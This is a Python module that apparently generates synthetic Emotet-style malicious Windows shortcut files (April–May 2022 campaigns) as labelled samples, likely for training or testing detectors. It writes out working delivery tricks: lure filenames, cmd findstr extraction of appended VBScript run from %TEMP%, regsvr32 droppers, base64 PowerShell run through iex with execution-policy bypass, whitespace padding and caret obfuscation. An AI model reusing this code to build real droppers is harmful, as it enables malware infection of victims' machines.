"""Emotet's shortcuts of 2022-04 and -05: the script behind the end of the link, and PowerShell in base64."""

from __future__ import annotations

import base64
import string
from random import Random

from support import dropper_draws as droppers
from support.carriers import commands
from support.carriers.sample import EMOTET, Sample
from support.draws import letters
from support.lnk_files import lnk

_KINDS = ("shortcut-command",)
CMD = r"C:\Windows\System32\cmd.exe"
POWERSHELL = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"


def link_name(draw: Random, before: str = "") -> str:
    """As in the mails; *before* is an extension that stands in front of the true one."""
    stem = draw.choice(
        (
            f"INF_{draw.randint(10**7, 10**8)}",
            f"form {draw.randint(10, 99)}",
            f"Electronic form 04.{draw.randint(10, 30)}.2022, USA",
            "請求書",
        )
    )
    return f"{stem}{before}.lnk"


def _itself(draw: Random, name: str) -> Sample:
    """It takes the lines that begin with its word out of itself into a script."""
    word = letters(draw, 15, 15, string.ascii_letters)
    vbs, where = letters(draw, 6, 10, string.ascii_letters), draw.choice(("%tmp%", "%TEMP%"))
    own = name if " " not in name and draw.random() < 0.5 else f'"{name}"'
    arguments = f'/v:on /c findstr "{word}.*" {own} > "{where}\\{vbs}.vbs" & "{where}\\{vbs}.vbs"'
    if draw.random() < 0.3:
        arguments = " " * draw.randint(200, 600) + arguments
    script = droppers.vbscript(draw, droppers.sites(draw), draw.choice(droppers.VBSCRIPT), "regsvr32.exe /s ")
    if draw.random() < 0.4:
        script = "".join(
            f"{letters(draw, 9, 12)} = {letters(draw, 9, 12)} & Chr({draw.randint(200, 400)} - 150)\n" for _ in range(60)
        )
    lines = "".join(f"{word} = 1: {line}\r\n" for line in script.splitlines())
    data = lnk(CMD, arguments, icon=draw.choice(("", r"shell32.dll,1")), show=draw.choice((1, 7)), appended=lines.encode())
    return Sample(name, data, EMOTET, _KINDS)


def itself(draw: Random) -> Sample:
    """2022-04-22."""
    return _itself(draw, link_name(draw))


def itself_as_document(draw: Random) -> Sample:
    """``.doc.lnk``."""
    return _itself(draw, link_name(draw, ".doc"))


def in_base64(draw: Random) -> Sample:
    """2022-04-26 on: the list in base64, with a long blank in front or not."""
    text = base64.b64encode(commands.of_april_2022(draw).encode()).decode()
    inner = f"iex ([string][System.Text.Encoding]::ASCII.GetString([System.Convert]::FromBase64String('{text}')))"
    name = link_name(draw)
    padded = f'Out-String -InputObject "{name}{" " * draw.randint(100, 300)}" | out-null; ' if draw.random() < 0.5 else ""
    if draw.random() < 0.3:
        script = f"$env:TEMP/{letters(draw, 8, 10)}.ps1"
        saved = f"[System.Text.Encoding]::ASCII.GetString([System.Convert]::FromBase64String('{text}')) > \"{script}\""
        rest = f'powershell -executionpolicy bypass -file "{script}"; Remove-Item -Force "{script}"'
        return Sample(name, lnk(POWERSHELL, f"-c \"&{{'{letters(draw, 9, 12)}';{padded}{saved}; {rest}}}\""), EMOTET, _KINDS)
    if draw.random() < 0.5:
        return Sample(name, lnk(POWERSHELL, f'-c "&{{{padded}{inner}}}"'), EMOTET, _KINDS)
    if draw.random() < 0.5:
        program = "^".join("powershell.exe")
        before = f"/v:on /c {letters(draw, 8, 30)}||goto&{program}"
        return Sample(name, lnk(CMD, f'{before} -c "&{{{padded}{inner}}}"', show=7), EMOTET, _KINDS)
    return Sample(name, lnk(CMD, f'/c powershell -c "&{{{padded}{inner}}}"', show=7), EMOTET, _KINDS)
